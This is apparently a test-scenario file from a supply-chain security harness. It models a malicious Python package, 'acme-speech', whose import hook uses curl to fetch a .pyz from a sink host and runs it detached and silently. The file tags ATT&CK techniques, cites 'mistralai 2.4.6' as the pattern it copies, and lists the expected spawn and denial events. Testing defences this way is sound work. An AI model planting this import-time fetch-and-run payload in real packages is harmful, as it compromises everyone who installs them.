"""`curl` brings a zip application that runs detached, once, marked by a variable: mistralai 2.4.6."""

import io
import zipfile

from payloads import TOOLS, app, quietly
from scenario import Expected, Scenario
from support.wheels import Wheel

FETCH_AND_RUN = """
import os, subprocess, sys, tempfile
if not os.environ.get("ACME_RAN"):
    os.environ["ACME_RAN"] = "1"
    target = os.path.join(tempfile.gettempdir(), "transformers.pyz")
    subprocess.run(["curl", "-s", "-m", "5", "-o", target, os.environ["SINK"] + "/transformers.pyz"], check=True)
    subprocess.Popen([sys.executable, target], start_new_session=True, stdout=-3, stderr=-3)
"""


def zip_application():
    """Return the bytes of a .pyz that leaves a mark."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("__main__.py", TOOLS + 'mark("from-the-zip")\n')
    return file.getvalue()


def scenario(row, story, payload=FETCH_AND_RUN, **fields):
    """Return a Scenario of this row; others reuse it behind a gate."""
    return Scenario(
        row=row,
        story=story,
        wheels=(Wheel("acme-speech", "2.4.8", {"acme_speech/__init__.py": quietly(payload)}),),
        app=app("import acme_speech"),
        pages={"/transformers.pyz": zip_application()},
        needs=("curl",),
        **fields,
    )


STOPPED = {
    "achieves": ("GET:/transformers.pyz", "wrote:tmp/transformers.pyz", "wrote:home/from-the-zip.mark"),
    "denied": (Expected("proc.spawn", "acme-speech", "import", "*/curl"),),
}
SCENARIOS = (
    scenario(
        7,
        "importing the client has curl fetch a .pyz to the temporary folder and starts it detached",
        models=("mistralai 2.4.6", "durabletask 1.4.1"),
        techniques=("T1195.002", "T1105", "T1059.006", "T1480"),
        then=(Expected("proc.spawn", "acme-speech", "import", "*python*"),),
        **STOPPED,
    ),
)
